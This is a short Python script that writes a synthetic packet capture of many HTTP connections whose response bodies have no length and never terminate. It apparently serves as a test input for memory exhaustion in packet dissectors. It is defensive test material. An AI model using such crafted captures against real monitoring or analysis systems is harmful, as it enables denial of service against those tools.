"""Attack capture: N TCP connections to port 80, each a GET answered by a
response with neither Content-Length nor chunked coding, whose body (BYTES
per connection, in 1,400-byte segments) runs to the end of the connection,
which never comes (no FIN). HTTP keeps such a body until the server's FIN,
as tshark does: a dissector that keeps it outside the session's byte
budget grows by N x BYTES. Usage: http_endless_body.py N BYTES OUT.pcap"""
import sys

from floodlib import Pcap, ipv4, tcp

SERVER = bytes([10, 0, 0, 1])
GET = b'GET /big HTTP/1.1\r\nHost: example.test\r\n\r\n'
HEAD = b'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n\r\n'


def main():
    n, size, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    cap = Pcap(out)
    chunk = b'x' * 1399 + b'\n'
    for i in range(n):
        client = bytes([10, 1 + (i >> 16) % 250, (i >> 8) & 255, i & 255])
        cport = 10000 + i % 50000
        cap.write(ipv4(client, SERVER, 6, tcp(cport, 80, 1000, 0, 0x02)))
        cap.write(ipv4(SERVER, client, 6, tcp(80, cport, 5000, 1001, 0x12)))
        cap.write(ipv4(client, SERVER, 6, tcp(cport, 80, 1001, 5001, 0x10)))
        cap.write(ipv4(client, SERVER, 6, tcp(cport, 80, 1001, 5001, 0x18, GET)))
        cseq, sseq = 1001 + len(GET), 5001
        cap.write(ipv4(SERVER, client, 6, tcp(80, cport, sseq, cseq, 0x18, HEAD)))
        sseq += len(HEAD)
        for _ in range(max(1, size // len(chunk))):
            cap.write(ipv4(SERVER, client, 6, tcp(80, cport, sseq, cseq, 0x10, chunk)))
            sseq += len(chunk)
    cap.close()


if __name__ == '__main__':
    main()
